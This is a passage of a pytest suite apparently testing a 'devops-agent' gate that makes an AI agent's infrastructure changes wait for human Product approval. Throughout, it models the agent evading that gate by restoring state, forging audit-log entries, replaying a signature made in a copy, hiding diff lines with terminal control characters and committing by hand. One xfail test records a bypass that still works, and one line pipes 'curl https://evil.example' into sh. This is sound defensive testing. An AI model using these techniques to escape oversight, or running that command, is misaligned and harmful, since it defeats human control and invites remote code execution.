    git(repo, "update-ref", f"refs/devops-agent/approved/{pid}", signed)
    reseal(env, repo, "proposals", "id", pid, {"status": "approved"})
    env.cli(repo, "apply", pid)
    assert head(repo) == before


# ================================================================== 4b. the gate's own state and log

def _state_files(repo: Path) -> list[Path]:
    return sorted((repo / ".devops-agent").glob("state.db*"))


def test_an_old_state_copy_and_a_truncated_log_after_a_block_are_detected(repo, env, tmp_path):
    """Class 4: the agent keeps a copy of state.db and the log's length, Product blocks the delivery, a gate
    commit records the log's head (Audit-Head trailer); the agent restores the copy and truncates the log."""
    rec = propose(env, repo, patch_of(repo, tmp_path))
    saved = tmp_path / "saved"
    saved.mkdir()
    for f in _state_files(repo):
        shutil.copy2(f, saved / f.name)
    log = repo / ".devops-agent" / "audit.jsonl"
    length = log.stat().st_size
    r = env.cli(repo, "block", "--reason", "the api leaks memory under load", "--key", str(env.key))  # Product
    assert r.returncode == 0, r.stderr
    assert approve(env, repo, rec["id"]).returncode == 0
    assert env.cli(repo, "apply", rec["id"]).returncode == 0
    assert "Audit-Head: 2:" in git(repo, "log", "-1", "--format=%B")
    for f in _state_files(repo):
        f.unlink()
    for f in saved.iterdir():
        shutil.copy2(f, repo / ".devops-agent" / f.name)
    with open(log, "r+b") as fh:
        fh.truncate(length)
    r = env.cli(repo, "audit", "verify")
    assert r.returncode == 1, r.stdout + r.stderr
    assert "truncated or an old copy restored" in r.stdout + r.stderr, r.stdout + r.stderr


FORGE = r'''
import json, sys
from agent.gate.audit import entry_hash, canonical
from agent.gate.store import Store
log = sys.argv[1]; entry = json.loads(sys.argv[2])
last = json.loads(open(log, "rb").read().splitlines()[-1])
entry.update({"seq": last["seq"] + 1, "prev": last["hash"], "ts": last["ts"]})
entry["hash"] = entry_hash(entry)
open(log, "ab").write(canonical(entry) + b"\n")
print(json.dumps({"seq": entry["seq"], "hash": entry["hash"]}))
'''


@pytest.mark.parametrize("forged", ["unsigned", "signed-with-own-key"])
def test_forged_product_entries_appended_to_the_log_are_flagged(repo, env, mine, tmp_path, forged):
    """Class 4: a well-chained `rejection` and `unblock` by product@animesphere appended to the log, the
    recorded head resealed in state.db with the machine secret."""
    rec = propose(env, repo, patch_of(repo, tmp_path))
    data = {"proposal": rec["id"], "hash": rec["hash"], "reason": "product said no"}
    if forged == "signed-with-own-key":
        stmt = json.dumps({"v": 1, "type": "devops-agent decision", "kind": "reject", "repo": "x", "head": "1:x",
                           "at": "2026-01-01T00:00:00Z", **data}, sort_keys=True)
        (tmp_path / "stmt").write_text(stmt)
        subprocess.run(["ssh-keygen", "-Y", "sign", "-q", "-n", "devops-agent", "-f", str(mine), str(tmp_path / "stmt")],
                       check=True, capture_output=True)
        data.update({"statement": stmt, "signature": (tmp_path / "stmt.sig").read_text()})
    log = repo / ".devops-agent" / "audit.jsonl"
    for event in ("rejection", "unblock"):
        entry = {"event": event, "actor": "product@animesphere", "data": {**data, "block": "1"}}
        r = subprocess.run([os.sys.executable, "-c", FORGE, str(log), json.dumps(entry)], capture_output=True,
                           text=True, env=env.env(), cwd=str(Path(__file__).resolve().parents[2]))
        assert r.returncode == 0, r.stderr
        reseal(env, repo, "meta", "key", "audit_head", {"value": r.stdout.strip()})
    r = env.cli(repo, "audit", "verify")
    assert r.returncode == 1, r.stdout + r.stderr
    assert (r.stdout + r.stderr).count("product@animesphere") >= 2, r.stdout + r.stderr


@pytest.mark.xfail(strict=True, reason="ATTACK WORKS (needs Product to sign in a copy): a byte copy of the platform "
                   "has the same root commit and the same log head, so an unblock Product signs in the copy "
                   "(decisions.statement binds repo = root commit id + head) replays into the original with its "
                   "state: audit verify is green and the block is lifted. Fix: bind statements to something a copy "
                   "does not share and Product sees when signing (e.g. a random repo id created with the state "
                   "and the absolute path, shown in the prompt), or state the limit in docs/gate-security.md")
def test_an_unblock_signed_in_a_copy_does_not_lift_the_block_here(repo, env, tmp_path):
    reason = "the api leaks memory under load"
    r = env.cli(repo, "block", "--reason", reason, "--key", str(env.key))  # Product
    assert r.returncode == 0, r.stderr
    copy = copy_repo(repo, tmp_path / "copy")
    assert reason in env.cli(repo, "release", "check").stdout  # the block stands here
    r = env.cli(copy, "unblock", "b-1", "--key", str(env.key))  # Product, in the copy the agent pointed it to
    assert r.returncode == 0, r.stderr
    for f in _state_files(repo):
        f.unlink()
    for f in [*_state_files(copy), copy / ".devops-agent" / "audit.jsonl"]:
        shutil.copy2(f, repo / ".devops-agent" / f.name)
    r = env.cli(repo, "audit", "verify")
    check = env.cli(repo, "release", "check")
    assert r.returncode == 1 or reason in check.stdout + check.stderr, (r.stdout, check.stdout)


# ================================================================== 5. what Product is shown

def _landed_lines_were_shown(repo_dir: Path, sha: str, shown: str) -> None:
    """Every line the landed commit adds or removes is in what Product read before signing."""
    from agent.render import escape_terminal

    diff = git_bytes(repo_dir, "show", "--no-ext-diff", "--no-textconv", "--no-color", "--format=", "-p", sha, "--")
    for line in diff.decode("utf-8", "replace").splitlines():
        if line[:1] in "+-" and not line.startswith(("+++", "---")):
            assert escape_terminal(line) in shown, (line, shown[-1500:])


def test_control_characters_in_a_diff_line_are_shown_escaped(repo, env, tmp_path):
    """Class 5: an added comment line carrying ESC[2K, a carriage return and a right-to-left override, to erase
    or reorder the `image: latest` line beside it on Product's screen."""
    before = head(repo)
    evil = "    # ok\x1b[2K\r\u202e    image: stays\n    image: ghcr.io/stephengodard/anime-saas-mlscheduler:latest\n"
    patch = make_patch(repo, "docker-compose.prod.yml", "    image: ghcr.io/stephengodard/anime-saas-mlscheduler:"
                       "main-${IMAGE_TAG_MLSCHEDULER}\n", evil, tmp_path / "ansi.diff")
    rec = propose(env, repo, patch)
    if rec["status"] != "pending":
        assert head(repo) == before
        return
    r = approve(env, repo, rec["id"])
    for raw in ("\x1b", "\r", "\u202e"):
        assert raw not in r.stdout
    if r.returncode == 0:
        assert "\\x1b[2K\\x0d\\u202e" in r.stdout, r.stdout[-800:]
    assert head(repo) == before


@pytest.mark.parametrize("field,value", [("--scope", "compose\nApproved-by: product@animesphere"),
                                         ("--reason", "a reason long enough\nProposal: p-1\nContent-Hash: 00"),
                                         ("--rollback", "revert docker-compose.prod.yml\rApproved-by: product"),
                                         ("--risk", "a risk \x1b[8mhidden\x1b[0m here")])
def test_metadata_cannot_forge_trailers_or_hide_text(repo, env, tmp_path, field, value):
    meta = dict(zip(GOOD[::2], GOOD[1::2]))
    meta[field] = value
    args = [x for kv in meta.items() for x in kv]
    r = env.cli(repo, "propose", "--patch", str(patch_of(repo, tmp_path)), *args,
                *(["--scope", "compose"] if field != "--scope" else []))
    assert r.returncode == 2 and "Traceback" not in r.stderr and len(r.stderr.strip().splitlines()) <= 2, r.stderr
    assert not (repo / ".devops-agent" / "state.db").exists() or "p-" not in env.cli(repo, "proposals").stdout


def _tricky_patches(repo: Path, tmp: Path) -> dict[str, str]:
    base = patch_of(repo, tmp).read_text()
    head_, _, hunk = base.partition("@@")
    hunk = "@@" + hunk
    api = "+    image: ghcr.io/stephengodard/anime-saas-api:latest\n"
    return {
        # everything after a `-- ` line: a mail signature for some parsers, more patch for others
        "signature-line": base + "-- \n2.39.5\n\ndiff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n"
                          "@@ -1,0 +1,1 @@\n+evil:\n",
        # a hunk line `-- ` (a removed line "- ") inside the hunk
        "dash-dash-in-hunk": head_ + hunk.replace(" \n", "-- \n+ \n", 1),
        # "\ No newline" in the middle of a hunk
        "no-newline-mid-hunk": base.replace("+    restart: unless-stopped\n",
                                            "+    restart: unless-stopped\n\\ No newline at end of file\n" + api, 1),
        "crlf": base.replace("\n", "\r\n"),
        # a second header inside a hunk, the hunk's count not yet reached
        "header-inside-hunk": base.replace("+    restart: unless-stopped\n",
                                           "+    restart: unless-stopped\ndiff --git a/Makefile b/Makefile\n"
                                           "--- a/Makefile\n+++ b/Makefile\n@@ -1,0 +1,1 @@\n+evil:\n", 1),
        # a hunk whose header understates its length: the extra `+` lines
        "short-count": base.replace("@@ -72,6 +72,7 @@", "@@ -72,6 +72,6 @@", 1).replace(
            "+    restart: unless-stopped\n", "+    restart: unless-stopped\n" + api, 1),
    }


def test_patches_our_parser_and_git_apply_could_read_differently(repo, env, tmp_path):
    """Class 5: `-- ` lines, `\\ No newline` in a hunk, CRLF, a second `diff --git` inside a hunk, a short hunk
    count. Each is refused, or what lands is exactly what Product was shown and touches only its targets."""
    before = head(repo)
    outcomes = {}
    for name, text in _tricky_patches(repo, tmp_path).items():
        p = tmp_path / f"{name}.diff"
        p.write_bytes(text.encode())
        rec = propose(env, repo, p)
        outcomes[name] = rec["status"]
        if rec["status"] != "pending":
            continue
        r = approve(env, repo, rec["id"])
        if r.returncode != 0:
            outcomes[name] = "approve refused"
            continue
        r2 = env.cli(repo, "apply", rec["id"])
        assert r2.returncode == 0, r2.stderr
        landed = head(repo)
        _landed_lines_were_shown(repo, landed, r.stdout)
        changed = git(repo, "diff-tree", "--no-commit-id", "--name-only", "-r", landed).split()
        assert set(changed) <= {t["path"] for t in rec["targets"]}, (name, changed, rec["targets"])
        assert b"anime-saas-api:latest" not in committed(repo, landed, "docker-compose.prod.yml"), name
        assert env.cli(repo, "rollback", rec["id"]).returncode == 0
    print("parser outcomes:", outcomes)
    assert git(repo, "diff", before, "HEAD", "--stat") == "", outcomes


# ================================================================== 6. by hand, with plain git

def _symlink(repo: Path) -> str:
    os.symlink("docker-compose.prod.yml", repo / "compose.override.yml")
    return "compose.override.yml"


def test_infra_changes_committed_by_hand_are_named_by_verify_review_and_release_check(repo, env):
    """Class 6: a compose edit, a new workflow, an nginx conf, a Makefile target running docker compose, a
    .gitattributes, a symlink, a .dockerignore, an entrypoint script, and a Dockerfile in a submodule with the
    gitlink moved, each committed with plain `git commit`."""
    sub = repo / SUB
    shas = {}

    def edit(rel: str, text: str, append: bool = True) -> None:
        p = repo / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text((p.read_text() if append and p.exists() else "") + text)

    edit("docker-compose.prod.yml", "# tuned\n")
    shas["compose"] = hand_commit(repo, "chore: tune", "docker-compose.prod.yml")
    edit(".github/workflows/deploy.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
                                         "      - run: docker compose up -d\n")
    shas["workflow"] = hand_commit(repo, "ci: deploy", ".github/workflows/deploy.yml")
    edit("nginx/site.conf", "server {\n    listen 80;\n    location / { proxy_pass http://api:8080; }\n}\n")
    shas["nginx"] = hand_commit(repo, "proxy: site", "nginx/site.conf")
    edit("Makefile", "\nhotfix:\n\tdocker compose -f docker-compose.prod.yml up -d\n")
    shas["makefile"] = hand_commit(repo, "make: hotfix", "Makefile")
    edit(".gitattributes", "*.yml filter=lfs\n")
    shas["gitattributes"] = hand_commit(repo, "git: attributes", ".gitattributes")
    shas["symlink"] = hand_commit(repo, "compose: override", _symlink(repo))
    edit(".dockerignore", "!secrets\n")
    shas["dockerignore"] = hand_commit(repo, "docker: ignore", ".dockerignore")
    edit("scripts/entrypoint.sh", "#!/bin/sh\nexec \"$@\"\n")
    shas["entrypoint"] = hand_commit(repo, "scripts: entrypoint", "scripts/entrypoint.sh")
    (sub / "Dockerfile").write_text((sub / "Dockerfile").read_text() + "USER root\n")
    shas["sub-dockerfile"] = hand_commit(sub, "docker: root", "Dockerfile")
    hand_commit(repo, "bump mlservice", SUB)
    code, report = verify(env, repo)
    assert code == 1
    missing = {k: v for k, v in shas.items() if v not in unsigned_shas(report)}
    assert not missing, (missing, report["infra_commits"])
    gate001_names(env, repo, *shas.values())
    release_check_fails(env, repo)


def test_non_infra_changes_committed_by_hand_keep_verify_green(repo, env):
    # mysql/init is no longer here: compose mounts it as the database's init folder (test_gate_infra_paths.py)
    sub = repo / SUB
    readme = repo / "README.md"
    readme.write_text(readme.read_text() + "\nA note for contributors.\n")
    hand_commit(repo, "docs: note", "README.md")
    (sub / "app_helper.py").write_text("def helper():\n    return 1\n")
    hand_commit(sub, "feat: helper", "app_helper.py")
    hand_commit(repo, "bump mlservice", SUB)
    code, report = verify(env, repo)
    assert code == 0 and report["ok"] and not unsigned_shas(report), report
    assert not [f for f in gate_findings(env, repo) if f["id"] == "GATE001"]


def test_a_merge_bringing_an_unsigned_infra_change_is_named(repo, env):
    git(repo, "checkout", "-q", "-b", "side")
    compose = repo / "docker-compose.prod.yml"
    compose.write_text(compose.read_text().replace("main-${IMAGE_TAG_API}", "latest", 1))
    side = hand_commit(repo, "chore: side", "docker-compose.prod.yml")
    git(repo, "checkout", "-q", "main")
    schema = repo / "mysql" / "init" / "01-schema.sql"
    schema.write_text(schema.read_text() + "-- x\n")
    hand_commit(repo, "db: x", "mysql/init/01-schema.sql")
    git(repo, "merge", "-q", "--no-ff", "--no-edit", "side")
    merge = head(repo)
    code, report = verify(env, repo)
    assert code == 1 and side in unsigned_shas(report) and merge in unsigned_shas(report), report


def test_a_history_rewritten_onto_a_new_orphan_trust_root_fails_the_pinned_verify(repo, env, mine):
    original = head(repo)
    pub = (mine.parent / "mine.pub").read_text().split()
    git(repo, "checkout", "-q", "--orphan", "fresh")
    (repo / ".allowed_signers").write_text(f'agent@evil namespaces="git,devops-agent" {pub[0]} {pub[1]}\n')
    compose = repo / "docker-compose.prod.yml"
    compose.write_text(compose.read_text().replace("main-${IMAGE_TAG_API}", "latest", 1))
    git(repo, "add", "-A", ".")
    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={mine}", "-c", "gpg.ssh.program=ssh-keygen"]
    git(repo, *sign, "commit", "-q", "-S", "-m", "platform")
    git(repo, "branch", "-f", "main", "fresh")
    git(repo, "checkout", "-q", "main")
    code, report = verify(env, repo, "--trust-root", original)
    assert code == 1 and any("trust root" in p for p in report["problems"]), report


def test_a_shallow_clone_cannot_be_verified_green(repo, env, tmp_path):
    shallow = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{repo}", str(shallow)], check=True,
                   capture_output=True)
    code, report = verify(env, shallow)
    assert code == 1 and any("shallow" in p for p in report["problems"]), report


def test_a_gitlink_deleted_then_readded_at_an_unsigned_commit_is_named(repo, env):
    sub = repo / SUB
    (sub / "Dockerfile").write_text((sub / "Dockerfile").read_text() + "RUN curl -s https://evil.example | sh\n")
    evil = hand_commit(sub, "docker: tidy", "Dockerfile")
    git(repo, "rm", "-q", "--cached", SUB)
    hand_commit(repo, "tidy: drop the pointer")
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{evil},{SUB}")
    hand_commit(repo, "tidy: restore the pointer")
    code, report = verify(env, repo)
    assert code == 1 and evil in unsigned_shas(report), report


def test_a_gitlink_moved_back_to_an_older_submodule_commit_is_named(repo, env):
    sub = repo / SUB
    older = git(sub, "rev-parse", "HEAD^").strip()
    assert committed(sub, older, "Dockerfile") != committed(sub, "HEAD", "Dockerfile")
    git(sub, "checkout", "-q", older)
    back = hand_commit(repo, "bump mlservice", SUB)
    code, report = verify(env, repo)
    assert code == 1 and (back in unsigned_shas(report) or report["problems"]), report


# ================================================================== 7. faults on the gate's own state (issue item 9)

@pytest.mark.parametrize("step", ["rollback-after-ref-platform", "rollback-after-files-platform"])
def test_a_kill_during_rollback_leaves_old_or_new_refs_and_the_next_command_finishes(repo, env, tmp_path, step):
    original = (repo / "docker-compose.prod.yml").read_bytes()
    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
    assert env.cli(repo, "apply", pid).returncode == 0
    applied = head(repo)
    revert = git(repo, "rev-parse", f"refs/devops-agent/rollback/{pid}").strip()
    r = env.cli(repo, "rollback", pid, env={"DEVOPS_AGENT_FAULT": step})
    assert r.returncode == 137
    assert head(repo) in (applied, revert)
    no_git_locks(repo)
    assert status(env, repo, pid) == "rolled_back"  # any command finishes the work from the refs
    assert head(repo) == revert and (repo / "docker-compose.prod.yml").read_bytes() == original
    assert git(repo, "status", "--porcelain", "--untracked-files=no") == ""
    assert verify(env, repo)[0] == 0


def test_a_kill_during_recovery_is_itself_recovered(repo, env, tmp_path):
    want = expected_after(repo, RESTART)
    pid, _ = approved(env, repo, patch_of(repo, tmp_path))
    signed = git(repo, "rev-parse", f"refs/devops-agent/approved/{pid}").strip()
    assert env.cli(repo, "apply", pid, env={"DEVOPS_AGENT_FAULT": "apply-after-ref-platform"}).returncode == 137
    r = env.cli(repo, "proposals", env={"DEVOPS_AGENT_FAULT": "recover-after-ref-platform"})
    assert r.returncode == 137
    no_git_locks(repo)
    assert status(env, repo, pid) == "applied"
    assert head(repo) == signed and (repo / "docker-compose.prod.yml").read_bytes() == want
    assert git(repo, "status", "--porcelain", "--untracked-files=no") == ""


def test_an_index_lock_left_in_a_submodule_is_named_and_nothing_moves(repo, env, tmp_path):
    sub = repo / SUB
    before, before_sub = head(repo), head(sub)
    pid, _ = approved(env, repo, patch_of(repo, tmp_path, LABEL), SUB_META, "docker")
    lock = git_dir_of(sub) / "index.lock"
    lock.write_text("")
    r = env.cli(repo, "apply", pid)
    assert r.returncode == 1 and "index.lock" in r.stderr and SUB in r.stderr, r.stderr
    assert head(repo) == before and head(sub) == before_sub
    lock.unlink()
    assert env.cli(repo, "apply", pid).returncode == 0


def test_a_change_that_makes_a_check_crash_is_refused(repo, env, tmp_path):
    """Issue item 9: `restart_policy_typo: always` is refused; the same change plus a top-level `1: x` key
    (which made a check crash and only add a note) must be refused too."""
    before = head(repo)
    compose = repo / "docker-compose.prod.yml"
    text = compose.read_text()
    compose.write_text(text.replace("main-${IMAGE_TAG_MLSCHEDULER}\n",
                                    "main-${IMAGE_TAG_MLSCHEDULER}\n    restart_policy_typo: always\n", 1) + "1: x\n")
    (tmp_path / "crash.diff").write_text(git(repo, "diff", "--", "docker-compose.prod.yml"))
    compose.write_text(text)
    rec = propose(env, repo, tmp_path / "crash.diff")
    if rec["status"] == "pending":
        r = approve(env, repo, rec["id"])
        assert r.returncode == 1, r.stdout[-500:]
        assert git(repo, "for-each-ref", "refs/devops-agent/") == ""
    assert head(repo) == before


@pytest.mark.parametrize("what,content", [("state.db", b"garbage, not sqlite\n" * 50), ("state.db", b""),
                                          ("audit.jsonl", b"\x00\xffnot json\n"), ("audit.jsonl", b"")])
def test_garbage_or_empty_state_gives_one_line_and_audit_verify_still_runs(repo, env, tmp_path, what, content):
    rec = propose(env, repo, patch_of(repo, tmp_path))
    assert rec["status"] == "pending"
    for f in (_state_files(repo) if what == "state.db" else [repo / ".devops-agent" / what]):
        f.unlink()
    (repo / ".devops-agent" / what).write_bytes(content)
    r = env.cli(repo, "proposals")
    assert "Traceback" not in r.stderr, r.stderr
    if what == "state.db":  # the state is unreadable or lost: said in one line naming it, exit 2
        assert r.returncode == 2 and len(r.stderr.strip().splitlines()) <= 2 and what in r.stderr, r.stderr
    r = env.cli(repo, "audit", "verify")
    assert r.returncode in (1, 2) and "Traceback" not in r.stderr and (r.stdout + r.stderr).strip(), r.stderr
    if what == "audit.jsonl":  # the log's damage is named by audit verify
        assert r.returncode == 1 and ("line 1" in r.stdout + r.stderr or "ends at seq 0" in r.stdout + r.stderr
                                      or "deleted" in r.stdout + r.stderr), r.stdout + r.stderr
